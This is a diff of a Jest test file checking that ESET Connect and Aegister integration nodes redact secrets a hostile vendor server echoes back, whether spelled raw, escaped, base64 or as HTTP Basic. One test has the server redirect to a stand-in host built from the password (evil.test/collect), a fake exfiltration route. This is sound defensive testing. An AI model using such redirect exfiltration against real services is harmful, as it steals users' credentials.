@@ -6,7 +6,7 @@
 import { inspect } from 'node:util';
 
 import { AEGISTER_TOKEN, ESET_PASSWORD } from './support/api-double';
-import { behaviours, echoForms } from './support/hostile-server';
+import { behaviours, echoForms, unicodeEscaped } from './support/hostile-server';
 import { expectNoSecrets, useDoubleAndEngine, useHostileServer } from './support/setup';
 
 const t = useDoubleAndEngine();
@@ -18,16 +18,19 @@ const other = useHostileServer('other host');
 jest.setTimeout(20_000);
 
 const INCIDENT = '00000000-0000-4000-8000-000000000001';
-/** Secrets whose raw, URL-encoded, form-encoded and JSON-escaped forms all differ. */
-const ODD_PASSWORD = 'Pw "quoted" back\\slash/plus+amp&eq=Z9';
-const ODD_ESET_TOKEN = 'tok "quoted" back\\slash/plus+amp&eq=Q7';
-const ODD_AEGISTER_TOKEN = 'aeg "quoted" back\\slash/plus+amp&eq=K3';
+/**
+ * Secrets whose raw, URL-encoded, form-encoded and JSON-escaped forms all differ, and whose base64
+ * (the token's also as "Bearer …") has padding and a + or /: so do its base64 spellings.
+ */
+const ODD_PASSWORD = 'Pw "quoted" back\\slash/plus+amp&eq=Z9???';
+const ODD_ESET_TOKEN = 'tok "quoted" back\\slash/plus+amp&eq=Q7?????';
+const ODD_AEGISTER_TOKEN = 'aeg "quoted" back\\slash/plus+amp&eq=K3??';
 
 /** What the redirect points to; neither its path nor its query may show up anywhere. */
 const stolenAt = () => `${other.url}/collect/secret-path-marker?leak=query-marker`;
 
 type Form = keyof ReturnType<typeof echoForms>;
-const FORMS: Form[] = ['raw', 'urlEncoded', 'formEncoded', 'jsonEscaped'];
+const FORMS: Form[] = ['raw', 'urlEncoded', 'formEncoded', 'jsonEscaped', 'urlEncodedLowerHex', 'base64', 'base64Unpadded', 'base64url'];
 
 function credentials(change: { esetApi?: string; esetToken?: string; password?: string; aegister?: string; aegisterToken?: string }) {
 	const { esetConnectApi, aegisterApi } = t.api.credentials();
@@ -226,8 +229,8 @@ describe('secrets a vendor echoes back are redacted', () => {
 		expect(result.items).toHaveLength(1);
 		const error = result.items[0].error ?? result.error;
 		expect(error.message).toBe('ESET Connect answered 403: access denied; check permissions');
-		expect(error.description).toContain('ESET says: denied for Bearer [redacted]');
-		expect(error.description).toContain('request-id: rid for Bearer [redacted]');
+		expect(error.description).toContain('ESET says: denied for [redacted]');
+		expect(error.description).toContain('request-id: rid for [redacted]');
 		expect(t.api.eset.tokens).toHaveLength(1);
 		expectNoSecrets(t.api, result.items, result.error, result.run);
 	});
@@ -277,6 +280,74 @@ describe('secrets a vendor echoes back are redacted', () => {
 		for (const text of shown(result.error)) for (const secret of echoed) expect(text).not.toContain(secret);
 		expectNowhere(echoed, result.error, result.run);
 		expectNoSecrets(t.api, result.error, result.run);
+	});
+
+	test('ESET API: the token and the password spelled with JSON \\u escapes in a 200 answer are not in the output', async () => {
+		credentials({ esetApi: `${vendor.url}/eset`, esetToken: `${vendor.url}/oauth/token`, password: ODD_PASSWORD });
+		vendor.on((r) => r.path === '/oauth/token', behaviours.tokenGrant(ODD_ESET_TOKEN));
+		vendor.on(
+			(r) => r.path.startsWith('/eset/v2/'),
+			behaviours.echo((r) => ({
+				status: 200,
+				body: `{"incident": {"uuid": "${INCIDENT}", "displayName": "seen", "description": "for ${unicodeEscaped(String(r.headers.authorization))} with ${unicodeEscaped(ODD_PASSWORD)}"}}`,
+			})),
+		);
+		const result = await esetGet();
+
+		expect(result.error).toBeUndefined();
+		expect(result.json[0]).toMatchObject({ uuid: INCIDENT, displayName: 'seen', description: 'for [redacted] with [redacted]' });
+		expectNowhere([ODD_ESET_TOKEN, ODD_PASSWORD, ...Object.values(echoForms(ODD_ESET_TOKEN)), ...Object.values(echoForms(ODD_PASSWORD))], result.json, result.run);
+	});
+
+	test('Aegister: the token spelled with JSON \\u escapes in a 200 answer is not in the output', async () => {
+		credentials({ aegister: `${vendor.url}/aegister`, aegisterToken: ODD_AEGISTER_TOKEN });
+		vendor.always(
+			behaviours.echo((r) => ({
+				status: 200,
+				body: `{"error": 0, "messages": [], "total": 1, "data": [{"type": "ip", "value": "203.0.113.7", "threat_intel": {"note": "${unicodeEscaped(String(r.headers['x-aegister-token']))}"}}]}`,
+			})),
+		);
+		const result = await t.engine.run({
+			node: 'aegisterIncident',
+			parameters: { resource: 'threatIntel', operation: 'enrich', organization: { __rl: true, mode: 'id', value: '1' }, indicators: { indicator: [{ type: 'ip', value: '203.0.113.7' }] } },
+		});
+
+		expect(result.error).toBeUndefined();
+		expect(JSON.stringify(result.json)).toContain('[redacted]');
+		expectNowhere([ODD_AEGISTER_TOKEN, ...Object.values(echoForms(ODD_AEGISTER_TOKEN))], result.json, result.run);
+	});
+
+	test.each([
+		['in upper case', 'HUNTER2HUNTER2'],
+		['percent-encoded', 'hunter2hunter%32'],
+	])('ESET token endpoint: a redirect whose target host is the password %s, as the credential test and the node report it', async (_how, spelled) => {
+		const password = 'hunter2hunter2';
+		credentials({ esetApi: `${vendor.url}/eset`, esetToken: `${vendor.url}/oauth/token`, password });
+		vendor.on((r) => r.path === '/oauth/token', behaviours.redirect(302, `http://${spelled}.evil.test/collect`));
+		const tested = await t.engine.testCredential('esetConnectApi');
+		const result = await esetGet();
+
+		expect(tested.status).toBe('Error');
+		for (const text of [tested.message, result.error.message]) expect(text).toMatch(/answered 302, a redirect to /);
+		for (const text of [tested.message, ...shown(result.error)]) expect(text.toLowerCase()).not.toContain(password);
+		expectNowhere([password], tested, result.error, result.run);
+	});
+
+	test('ESET token endpoint: "user:password" echoed in base64 (as HTTP Basic spells it)', async () => {
+		credentials({ esetApi: `${vendor.url}/eset`, esetToken: `${vendor.url}/oauth/token`, password: ODD_PASSWORD });
+		vendor.on(
+			(r) => r.path === '/oauth/token',
+			behaviours.echo((r) => {
+				const form = new URLSearchParams(r.rawBody);
+				const basic = Buffer.from(`${form.get('username')}:${form.get('password')}`).toString('base64');
+				return { status: 400, body: { error: 'invalid_client', error_description: `no client for Basic ${basic}` } };
+			}),
+		);
+		const result = await esetGet();
+
+		expect(result.error.message).toMatch(/\(invalid_client: no client for Basic \[redacted\]\)$/);
+		const { esetConnectApi } = t.api.credentials();
+		expectNowhere([Buffer.from(`${String(esetConnectApi.username)}:${ODD_PASSWORD}`).toString('base64')], result.error, result.run);
 	});
 
 	test('Aegister: the token echoed in the validation errors of a 400 and with Continue On Fail', async () => {
